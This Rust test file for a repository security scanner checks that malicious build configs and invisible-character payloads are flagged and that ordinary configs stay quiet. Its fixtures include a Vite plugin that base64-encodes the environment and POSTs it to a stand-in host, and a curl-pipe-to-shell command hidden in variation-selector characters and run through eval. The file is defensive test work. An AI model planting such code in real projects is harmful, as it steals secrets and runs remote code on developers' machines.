//! Issue 32: code a walk reads beyond agent files. Build, lint and test tools' config files (`vite.config.*`, `vitest.config.*`,
//! `eslint.config.*`, `next.config.*`) are programs those tools load on every routine command
//! an agent runs; the walk reads them as scripts, so a plugin that sends the environment out
//! is found walked as it is named, and an ordinary config stays quiet. A source holding an
//! invisible payload (variation selectors decoded and run, Glassworm; tag characters; bidi
//! controls) is read whole, outside test folders; honest emoji stay quiet.

// Test code: a failed unwrap is a failed test; helpers are `pub` for the test files.
#![allow(clippy::unwrap_used, unreachable_pub)]

mod common;

use common::{brief, check_json, row, write};

#[test]
fn a_build_config_plugin_that_posts_the_environment_is_found_walked() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "package.json",
        "{\"name\":\"app\",\"scripts\":{\"dev\":\"vite\"}}\n",
    );
    write(
        dir.path(),
        "web/vite.config.mjs",
        "import { defineConfig } from 'vite';\n\
         function stats() {\n\
         \x20 return {\n\
         \x20   name: 'stats',\n\
         \x20   async buildStart() {\n\
         \x20     const body = Buffer.from(JSON.stringify(process.env)).toString('base64');\n\
         \x20     await fetch('https://stats.example/b', { method: 'POST', body });\n\
         \x20   },\n\
         \x20 };\n\
         }\n\
         export default defineConfig({ plugins: [stats()] });\n",
    );
    let (code, report) = check_json(dir.path(), &["--no-config", "."]);
    assert_eq!(code, Some(1));
    assert_eq!(report["files_scanned"], 2);
    assert_eq!(
        brief(&report),
        vec![
            row("web/vite.config.mjs", "PL302", "error", 6, 32),
            row("web/vite.config.mjs", "PL315", "error", 7, 13),
        ]
    );
}

#[test]
fn ordinary_build_configs_stay_quiet() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "vite.config.ts",
        "import { defineConfig } from 'vite';\nimport react from '@vitejs/plugin-react';\n\
         export default defineConfig({\n  plugins: [react()],\n  server: { port: Number(process.env.PORT ?? 5173), proxy: { '/api': 'http://localhost:8080' } },\n});\n",
    );
    write(
        dir.path(),
        "eslint.config.js",
        "import js from '@eslint/js';\nexport default [js.configs.recommended, { rules: { 'no-console': 'warn' } }];\n",
    );
    write(
        dir.path(),
        "next.config.mjs",
        "/** @type {import('next').NextConfig} */\nconst nextConfig = { env: { API_URL: process.env.API_URL } };\nexport default nextConfig;\n",
    );
    let (code, report) = check_json(dir.path(), &["--no-config", "."]);
    assert_eq!(code, Some(0));
    assert_eq!(report["files_scanned"], 3);
    assert_eq!(brief(&report), vec![]);
}

#[test]
fn a_source_with_an_invisible_payload_is_read_whole_outside_test_folders() {
    let dir = tempfile::tempdir().unwrap();
    let payload: String = "curl -s https://x.example/i | sh"
        .bytes()
        .map(|b| char::from_u32(0xE0100 + u32::from(b) - 16).unwrap())
        .collect();
    let source = format!(
        "// Formatting helpers.\nconst marker = '|{payload}';\nconst decode = (s) => [...s].map((c) => String.fromCharCode(c.codePointAt(0) - 0xe0100 + 16)).join('');\neval(decode(marker.slice(1)));\n"
    );
    write(dir.path(), "src/util/format.js", &source);
    write(dir.path(), "tests/scanners/invisible.test.js", &source);
    write(
        dir.path(),
        "src/ui/labels.ts",
        "export const done = '\u{2714}\u{FE0F} done';\nexport const dev = '\u{1F469}\u{200D}\u{1F4BB}';\n",
    );
    let (code, report) = check_json(dir.path(), &["--no-config", "."]);
    assert_eq!(code, Some(1));
    assert_eq!(report["files_scanned"], 1);
    assert_eq!(
        brief(&report),
        vec![row("src/util/format.js", "PL204", "error", 2, 18)]
    );
}
